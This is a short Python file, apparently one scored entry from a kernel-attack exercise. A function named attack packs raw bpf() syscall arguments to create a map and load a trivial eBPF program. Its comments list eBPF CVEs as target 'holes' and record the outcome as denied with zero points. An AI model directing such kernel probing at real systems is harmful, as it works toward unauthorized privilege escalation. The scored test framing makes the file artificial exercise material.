"""Loads a map and a program into the kernel."""

# outcome: denied
# points: 0
# holes: CVE-2021-3490, 2021-31440, 2022-23222, 2023-2163

import struct

from first_step import those_that_got_in


def attack(world):
    map_, program = struct.pack("4I", 2, 4, 4, 1).ljust(120, b"\0"), struct.pack("2I", 1, 1).ljust(120, b"\0")
    bpf = (321, 280)
    return those_that_got_in({"map": (bpf, 0, map_, len(map_)), "program": (bpf, 5, program, len(program))})
